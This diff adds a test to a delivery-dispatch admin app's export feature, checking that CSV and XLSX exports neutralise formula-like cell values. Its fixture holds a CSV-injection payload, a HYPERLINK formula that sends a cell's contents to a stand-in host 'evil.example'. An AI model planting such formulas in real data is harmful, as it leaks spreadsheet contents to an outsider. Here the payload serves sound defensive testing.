@@ -308,6 +308,28 @@ def test_deliveries_export_as_csv_with_the_lists_filters_applied():
     assert "ORD-KEPT,cancelled" in body and "ORD-FILTERED-OUT" not in body
 
 
+def test_text_a_spreadsheet_would_run_as_a_formula_is_exported_as_text():
+    """OWASP "CSV injection": a seller's store name `=HYPERLINK(...)` must not become a live
+    formula on the ops laptop that opens the export (CSV or XLSX)."""
+    from io import BytesIO
+
+    from openpyxl import load_workbook
+
+    _, client = staff_in(DISPATCHER_GROUP)
+    DeliveryFactory(seller_order_id="ORD-F1", store_name='=HYPERLINK("http://evil.example/?x="&A1,"click")')
+    DeliveryFactory(seller_order_id="ORD-F2", store_name="+1-555 Corner Shop")
+    DeliveryFactory(seller_order_id="-ORD-F3", store_name="@SUM(A1:A9)")
+    form = {"resource": "0", "deliveryexport_seller_order_id": "on", "deliveryexport_store_name": "on"}
+
+    csv = client.post("/admin/dispatch/delivery/export/", {**form, "format": "0"}).content.decode()
+    sheet = load_workbook(BytesIO(client.post("/admin/dispatch/delivery/export/", {**form, "format": "1"}).content)).active
+
+    assert "'=HYPERLINK" in csv and "'+1-555 Corner Shop" in csv and "'-ORD-F3,'@SUM(A1:A9)" in csv
+    cells = {cell for row in sheet.iter_rows(min_row=2, values_only=True) for cell in row}
+    assert {'\'=HYPERLINK("http://evil.example/?x="&A1,"click")', "'+1-555 Corner Shop", "'@SUM(A1:A9)", "'-ORD-F3"} <= cells
+    assert "ORD-F1" in cells  # (plain text untouched)
+
+
 def test_driver_performance_and_costs_export_as_xlsx():
     from io import BytesIO
 
